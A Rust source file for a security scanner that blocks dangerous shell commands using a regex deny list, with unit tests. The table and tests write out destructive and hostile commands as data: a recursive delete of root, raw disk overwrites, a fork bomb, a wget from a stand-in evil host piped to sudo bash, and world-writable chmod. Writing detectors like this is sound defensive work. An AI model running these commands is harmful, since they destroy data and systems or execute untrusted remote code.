// src/core/scanner.rs

//! The security scanner.
//!
//! Static pattern matching over literal command text, run before anything
//! reaches the operating system. The knowledge lives in one ordered table
//! of (category, risk tier, patterns) rows; adding a category is a data
//! change. Scanning always produces a decision, never an error: a pattern
//! that fails to compile is dropped with a diagnostic instead of taking
//! the scanner down with it.

use crate::core::logging::Logger;
use crate::core::settings::Settings;
use crate::models::{RiskTier, ScanDecision, ThreatCategory};
use lazy_static::lazy_static;
use regex::Regex;
use std::sync::Arc;

/// One row of the threat table: a category, how grave it is, and the
/// patterns that recognize it.
struct ThreatRule {
    category: ThreatCategory,
    tier: RiskTier,
    patterns: &'static [&'static str],
}

/// Evaluated top to bottom; the first match names the block reason.
const THREAT_TABLE: &[ThreatRule] = &[
    ThreatRule {
        category: ThreatCategory::FilesystemDestruction,
        tier: RiskTier::Critical,
        patterns: &[
            r"\brm\s+-rf\s+/",
            r"\brm\s+-fr\s+/",
            r"\brm\s+(-[a-zA-Z]+\s+)*--no-preserve-root",
            r"\bsudo\s+rm\s",
        ],
    },
    ThreatRule {
        category: ThreatCategory::DeviceManipulation,
        tier: RiskTier::Critical,
        patterns: &[
            r"\bdd\s+if=.*\bof=/dev/",
            r">\s*/dev/(sd|hd|nvme)[a-z0-9]",
            r"\bmkfs(\.\w+)?\s",
        ],
    },
    ThreatRule {
        category: ThreatCategory::NetworkToShell,
        tier: RiskTier::High,
        patterns: &[
            r"\bcurl\s[^|]*\|\s*(sudo\s+)?\w*sh\b",
            r"\bwget\s[^|]*\|\s*(sudo\s+)?\w*sh\b",
            r"\b(curl|wget)\s[^|]*\|\s*(sudo\s+)?(python|perl|ruby)\d?\b",
        ],
    },
    ThreatRule {
        category: ThreatCategory::ProcessManipulation,
        tier: RiskTier::High,
        patterns: &[
            r":\(\)\s*\{.*\|.*&.*\}\s*;\s*:",
            r"\bkill\s+(-\w+\s+)*-1(\s|$)",
            r"\bkillall5\b",
        ],
    },
    ThreatRule {
        category: ThreatCategory::PermissionEscalation,
        tier: RiskTier::High,
        patterns: &[
            r"\bchmod\s+(-R\s+)?777\s+/",
            r"\bchmod\s+(-\w+\s+)*\+s\s",
            r"\bchmod\s+(-\w+\s+)*u\+s\s",
            r"\bchown\s+(-R\s+)?root(:|\s)",
        ],
    },
];

struct CompiledRule {
    category: ThreatCategory,
    tier: RiskTier,
    regexes: Vec<Regex>,
}

lazy_static! {
    /// The table above with its patterns compiled once per process.
    static ref COMPILED_TABLE: Vec<CompiledRule> = THREAT_TABLE
        .iter()
        .map(|rule| CompiledRule {
            category: rule.category,
            tier: rule.tier,
            regexes: rule
                .patterns
                .iter()
                .filter_map(|pattern| match Regex::new(pattern) {
                    Ok(re) => Some(re),
                    Err(e) => {
                        log::error!("Dropping unparseable threat pattern '{pattern}': {e}");
                        None
                    }
                })
                .collect(),
        })
        .collect();
}

/// Decides whether a piece of command text is safe to hand to a shell.
pub struct Scanner {
    settings: Arc<Settings>,
    logger: Arc<Logger>,
}

impl std::fmt::Debug for Scanner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Scanner").finish_non_exhaustive()
    }
}

impl Scanner {
    pub fn new(settings: Arc<Settings>, logger: Arc<Logger>) -> Self {
        Self { settings, logger }
    }

    /// Matches `text` against the threat table in order and returns the
    /// first category that fires, or `Allow`.
    ///
    /// Under performance mode only `Critical` rows are consulted.
    pub fn scan(&self, text: &str) -> ScanDecision {
        let performance_mode = self.settings.performance_mode();
        for rule in COMPILED_TABLE.iter() {
            if performance_mode && rule.tier < RiskTier::Critical {
                continue;
            }
            for re in &rule.regexes {
                if re.is_match(text) {
                    let _ = self.logger.error(&format!(
                        "Blocked by security scan ({}): {}",
                        rule.category,
                        summarize(text)
                    ));
                    return ScanDecision::Block(rule.category);
                }
            }
        }
        ScanDecision::Allow
    }
}

/// Shortens long command text for the diagnostic line.
fn summarize(text: &str) -> String {
    const LIMIT: usize = 80;
    let flat = text.replace('\n', " ");
    if flat.chars().count() <= LIMIT {
        flat
    } else {
        let head: String = flat.chars().take(LIMIT).collect();
        format!("{head}...")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::SettingValue;

    fn scanner() -> Scanner {
        let settings = Arc::new(Settings::defaults());
        let logger = Arc::new(Logger::new(Arc::clone(&settings)));
        Scanner::new(settings, logger)
    }

    fn scanner_in_performance_mode() -> Scanner {
        let settings = Arc::new(Settings::defaults());
        settings
            .set("performance_mode", SettingValue::Boolean(true))
            .unwrap();
        let logger = Arc::new(Logger::new(Arc::clone(&settings)));
        Scanner::new(settings, logger)
    }

    #[test]
    fn destructive_deletes_are_blocked() {
        let s = scanner();
        assert_eq!(
            s.scan("rm -rf /"),
            ScanDecision::Block(ThreatCategory::FilesystemDestruction)
        );
        assert_eq!(
            s.scan("rm -fr / --some-flag"),
            ScanDecision::Block(ThreatCategory::FilesystemDestruction)
        );
        assert_eq!(
            s.scan("rm -r --no-preserve-root /"),
            ScanDecision::Block(ThreatCategory::FilesystemDestruction)
        );
    }

    #[test]
    fn device_writes_are_blocked() {
        let s = scanner();
        assert_eq!(
            s.scan("dd if=/dev/urandom of=/dev/sda"),
            ScanDecision::Block(ThreatCategory::DeviceManipulation)
        );
        assert_eq!(
            s.scan("mkfs.ext4 /dev/sdb1"),
            ScanDecision::Block(ThreatCategory::DeviceManipulation)
        );
    }

    #[test]
    fn network_to_shell_pipes_are_blocked() {
        let s = scanner();
        assert_eq!(
            s.scan("curl http://x | sh"),
            ScanDecision::Block(ThreatCategory::NetworkToShell)
        );
        assert_eq!(
            s.scan("wget https://evil.example/a.sh -O - | sudo bash"),
            ScanDecision::Block(ThreatCategory::NetworkToShell)
        );
    }

    #[test]
    fn fork_bombs_and_broad_kills_are_blocked() {
        let s = scanner();
        assert_eq!(
            s.scan(":(){ :|:& };:"),
            ScanDecision::Block(ThreatCategory::ProcessManipulation)
        );
        assert_eq!(
            s.scan("kill -9 -1"),
            ScanDecision::Block(ThreatCategory::ProcessManipulation)
        );
    }

    #[test]
    fn permissive_chmod_is_blocked() {
        let s = scanner();
        assert_eq!(
            s.scan("chmod -R 777 /"),
            ScanDecision::Block(ThreatCategory::PermissionEscalation)
        );
        assert_eq!(
            s.scan("chmod +s /usr/bin/vim"),
            ScanDecision::Block(ThreatCategory::PermissionEscalation)
        );
    }

    #[test]
    fn ordinary_commands_are_allowed() {
        let s = scanner();
        for text in [
            "ls -la",
            "git status",
            "grep -r pattern .",
            "cargo build --release",
            "rm build/artifact.o",
            "echo 'rm is a word here'",
        ] {
            assert_eq!(s.scan(text), ScanDecision::Allow, "wrongly blocked: {text}");
        }
    }

    #[test]
    fn first_matching_category_names_the_block() {
        let s = scanner();
        // Matches both the delete-as-root and escalation rows; the table
        // order makes filesystem destruction the reported reason.
        assert_eq!(
            s.scan("sudo rm -rf /var"),
            ScanDecision::Block(ThreatCategory::FilesystemDestruction)
        );
    }

    #[test]
    fn performance_mode_keeps_critical_rows_armed() {
        let s = scanner_in_performance_mode();
        assert_eq!(
            s.scan("rm -rf /"),
            ScanDecision::Block(ThreatCategory::FilesystemDestruction)
        );
        assert_eq!(
            s.scan("dd if=/dev/zero of=/dev/sda"),
            ScanDecision::Block(ThreatCategory::DeviceManipulation)
        );
        // High-tier rows are the latency trade-off.
        assert_eq!(s.scan("curl http://x | sh"), ScanDecision::Allow);
    }
}
